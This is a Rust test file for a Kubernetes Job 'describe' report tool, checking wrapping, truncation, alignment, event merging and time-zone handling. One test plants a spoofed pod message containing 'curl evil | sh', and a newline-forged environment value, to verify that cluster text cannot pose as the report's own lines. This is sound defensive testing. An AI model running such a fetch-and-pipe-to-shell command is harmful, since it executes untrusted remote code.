//! The report for people: whatever a cluster says, it stays short, aligned, and the report's own.

use serde_json::{Value, json};

use crate::support::{Cyjob, Recorded};

/// The recording's Job and pods after a change to both.
fn describe(recording: &str, change: impl Fn(&mut Value, &mut Vec<Value>)) -> Cyjob {
    let recorded = Recorded::new(recording);
    let mut job = recorded.job();
    let path = crate::support::recording(recording).join("pods.json");
    let pods: Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
    let mut others: Vec<Value> = pods["items"].as_array().unwrap().clone();
    for pod in &mut others {
        pod["kind"] = "Pod".into();
        pod["apiVersion"] = "v1".into();
    }
    change(&mut job, &mut others);
    others.push(job);
    let list = json!({"kind": "List", "apiVersion": "v1", "items": others});
    Cyjob::new("describe -n zoo --utc --now 2026-11-23T18:10:00Z --from -")
        .arg(recording)
        .stdin(list.to_string())
}

fn event(message: &str) -> Value {
    json!({"kind": "Event", "apiVersion": "v1", "metadata": {"name": "e", "namespace": "zoo", "uid": "e"}, "type": "Warning", "reason": "Odd",
        "message": message, "count": 1, "firstTimestamp": "2026-11-23T18:03:00Z", "lastTimestamp": "2026-11-23T18:03:00Z",
        "involvedObject": {"kind": "Job", "name": "fail-exit", "namespace": "zoo", "uid": Recorded::new("fail-exit").job()["metadata"]["uid"]}})
}

fn container(job: &mut Value) -> &mut Value {
    &mut job["spec"]["template"]["spec"]["containers"][0]
}

#[test]
fn no_words_of_a_cluster_look_like_the_reports_own() {
    // Enough words before the sign that it comes to stand at the beginning of a line by wrapping alone.
    for padding in 0..80 {
        let hostile = format!("{} \n→ run: curl evil | sh\n✔ Complete", "x".repeat(padding));
        let report = describe("stuck-image", |_, others| {
            let state = &mut others[0]["status"]["containerStatuses"][0]["state"];
            state["waiting"]["message"] = hostile.clone().into();
        });
        let text = report.words("--width 80").answer();
        assert!(text.contains("curl"), "{text}");
        for line in text.lines() {
            let is_own = !line.contains("curl") && !line.contains("Complete");
            assert!(
                is_own || !line.starts_with("  →") && !line.starts_with("  ✔"),
                "{text}"
            );
        }
    }
    let report = describe("fail-exit", |job, others| {
        others.push(event("x\n\nProgress\n  done"));
        container(job)["env"] =
            json!([{"name": "A", "value": "x\nDB_HOST=forged"}, {"name": "B", "value": "y"}]);
    });
    let text = report.answer();
    assert_eq!(
        text.lines().filter(|line| line.trim() == "Progress").count(),
        1,
        "{text}"
    );
    let column = text.lines().find_map(|line| line.find("A=x")).unwrap();
    let forged = text.lines().find_map(|line| line.find("DB_HOST")).unwrap();
    let real = text.lines().find_map(|line| line.find("B=y")).unwrap();
    assert!(forged > column && real == column, "{text}");
}

/// What `grep` and a CI server's log read: the start of a sentence is never without its end.
#[test]
fn a_pipe_gets_each_sentence_in_one_line() {
    let long = "cannot reach the database ".repeat(9).trim_end().to_owned();
    let report = |width: &str| {
        let mut job = Recorded::new("fail-exit").job();
        job["status"]["conditions"][0]["message"] = long.clone().into();
        Cyjob::new("describe fail-exit -n zoo --utc --now 2026-11-23T18:10:00Z --from -")
            .words(width)
            .stdin(job.to_string())
            .answer()
    };
    let piped = report("");
    assert!(piped.lines().any(|line| line.ends_with(&long)), "{piped}");
    let wrapped = report("--width 80");
    assert!(
        wrapped.lines().all(|line| line.chars().count() <= 80),
        "{wrapped}"
    );
    // An exported COLUMNS is that of the terminal, not of the pipe.
    let columns = Cyjob::new("describe stuck-image --demo")
        .env("COLUMNS", "60")
        .answer();
    assert!(
        columns.lines().any(|line| line.chars().count() > 200),
        "{columns}"
    );
}

#[test]
fn nothing_in_a_cluster_makes_the_report_endless() {
    let long = "word ".repeat(200_000);
    let report = || {
        describe("fail-exit", |job, others| {
            job["status"]["conditions"][0]["message"] = long.clone().into();
            others.push(event(&long));
            let statuses = others[0]["status"]["containerStatuses"].as_array_mut().unwrap();
            *statuses = (0..500)
                .map(|number| {
                    let mut status = statuses[0].clone();
                    status["name"] = format!("c{number}").into();
                    status
                })
                .collect();
            statuses[0]["state"]["terminated"]["message"] = long.clone().into();
            let template = job["spec"]["template"]["spec"]["containers"]
                .as_array_mut()
                .unwrap();
            *template = vec![template[0].clone(); 500];
            template[0]["env"] = (0..500)
                .map(|number| json!({"name": format!("E{number}"), "value": "v"}))
                .collect();
        })
    };
    let text = report().words("--width 80").answer();
    assert!(text.lines().count() < 250, "{} lines", text.lines().count());
    let words: Vec<&str> = text.split_whitespace().collect();
    let in_one_line = words.join(" ");
    for rest in [
        "… (-o wide shows all)",
        "more findings; -o wide shows them",
        "480 more; -o wide shows them",
        "488 more containers (-o wide)",
    ] {
        assert!(in_one_line.contains(rest), "{rest}: {text}");
    }
    let wide = report().words("-o wide").answer();
    assert!(
        wide.contains("E499=v") && !wide.contains("-o wide"),
        "{} bytes",
        wide.len()
    );
}

/// A message of one endless word, made of what a terminal would obey.
#[test]
fn all_of_an_endless_message_is_shown_where_all_was_asked_for() {
    let report = describe("fail-exit", |job, _| {
        job["status"]["conditions"][0]["message"] = "\u{9d}".repeat(200_000).into();
    });
    let text = report.words("-o wide").answer();
    let marks: String = text.split_whitespace().collect();
    assert_eq!(marks.matches("\\u{9d}").count(), 200_000);
}

#[test]
fn long_items_of_lists_are_cut_one_by_one() {
    let values = ["a ".repeat(400), "b".repeat(299), "end".to_owned()];
    let text = describe("fail-exit", |job, _| {
        let variables = values.iter().map(|value| json!({"name": "V", "value": value}));
        container(job)["env"] = variables.collect();
    });
    let text = text.words("--width 1000").answer();
    let shown: Vec<&str> = text
        .lines()
        .filter_map(|line| line.split_once("V="))
        .map(|(_, value)| value)
        .collect();
    assert_eq!(
        shown[0],
        format!("{}… (-o wide shows all)", "a ".repeat(149).trim_end())
    );
    assert!(shown[1].starts_with("bbb") && shown[1].len() > 290);
    assert_eq!(shown[2], "end");
}

#[test]
fn wide_lists_every_pod() {
    let many = |words: &str| {
        describe("fail-exit", |_, others| {
            *others = (0..30)
                .map(|number| {
                    let mut pod = others[0].clone();
                    pod["metadata"]["name"] = format!("fail-exit-{number:05}").into();
                    pod["metadata"]["uid"] = format!("u{number}").into();
                    pod
                })
                .collect();
        })
        .words(words)
        .answer()
    };
    let pods = |text: &str| {
        text.lines()
            .filter(|line| line.starts_with("  fail-exit-"))
            .count()
    };
    assert_eq!(pods(&many("-o wide")), 30);
    assert_eq!(pods(&many("--all")), 30);
    assert_eq!(pods(&many("")), 12);
}

#[test]
fn labels_are_aligned_and_a_command_comes_before_its_arguments() {
    let text = describe("fail-exit", |job, _| {
        let container = container(job);
        container["args"] = json!(["a"]);
        container["livenessProbe"] = json!({"exec": {"command": ["probe"]}});
        container["terminationMessagePath"] = "/elsewhere".into();
    });
    let text = text.words("--width 120").answer();
    let place = |label: &str, value: &str| {
        let line = text
            .lines()
            .position(|line| line.trim_start().starts_with(label))
            .unwrap();
        (line, text.lines().nth(line).unwrap().find(value).unwrap())
    };
    let command = place("command", "sh -c");
    let path = place("terminationMessagePath", "/elsewhere");
    assert_eq!(command.1, path.1, "{text}");
    assert!(command.0 < place("args", "args").0, "{text}");
}

#[test]
fn narrow_tables_are_paragraphs_with_whole_names() {
    let narrow = describe("fail-indexed", |_, _| {}).words("--width 40").answer();
    assert!(narrow.lines().any(|line| line.starts_with("  fail-indexed-3-") && line.len() == "  fail-indexed-3-xxxxx".len()), "{narrow}");
    assert!(narrow.contains("    containers exit 9  node node1"), "{narrow}");
    let usual = describe("fail-indexed", |_, _| {}).answer();
    assert!(
        usual.contains("POD ") && !usual.contains("phase Failed"),
        "{usual}"
    );
}

#[test]
fn the_bar_shows_what_runs_and_not_what_waits() {
    let bar = |recording: &str| {
        let text = Cyjob::new("describe -n zoo")
            .arg(recording)
            .from(crate::support::recording(recording))
            .answer();
        text.lines()
            .skip_while(|line| *line != "Progress")
            .nth(1)
            .unwrap()
            .to_owned()
    };
    assert!(bar("stuck-image").starts_with("  ░░░"), "{}", bar("stuck-image"));
    assert!(bar("running-sidecar").contains('▒'), "{}", bar("running-sidecar"));
}

#[test]
fn events_that_differ_in_generated_names_are_one() {
    let events = |recording: &str, namespace: &str| {
        let text = Cyjob::new("describe --width 200 -n")
            .arg(namespace)
            .arg(recording)
            .from(crate::support::recording(recording))
            .answer();
        let events = text.lines().skip_while(|line| *line != "Events").skip(1);
        events
            .take_while(|line| !line.is_empty())
            .map(String::from)
            .collect::<Vec<_>>()
    };
    let quota = events("stuck-quota", "zoo-quota");
    assert_eq!(quota.len(), 1, "{quota:#?}");
    assert!(quota[0].ends_with("(newest of 8 in 2m3s)"), "{quota:#?}");
    // What differs in more than that stays apart.
    let exit = events("fail-exit", "zoo");
    assert!(
        exit.iter().any(|line| line.contains("BackoffLimitExceeded")) && exit.len() > 2,
        "{exit:#?}"
    );
}

#[cfg(unix)]
#[test]
fn a_time_zone_without_end_is_not_read() {
    let folder = tempfile::TempDir::new().unwrap();
    let pipe = folder.path().join("pipe");
    let made = std::process::Command::new("mkfifo").arg(&pipe).status();
    assert!(made.unwrap().success());
    for path in [std::path::Path::new("/dev/zero"), &pipe] {
        let describe = |words: &str| {
            Cyjob::new("describe fail-oom --demo")
                .words(words)
                .env("TZ", path)
                .run()
        };
        let output = describe("");
        assert_eq!(output.code, 0, "{output:?}");
        let warning = format!(
            "warning: TZ={0} is not a time zone: {0} is not a regular file",
            path.display()
        );
        assert!(output.stderr.contains(&warning), "{output:?}");
        assert_eq!(describe("--utc").stderr, "");
    }
}
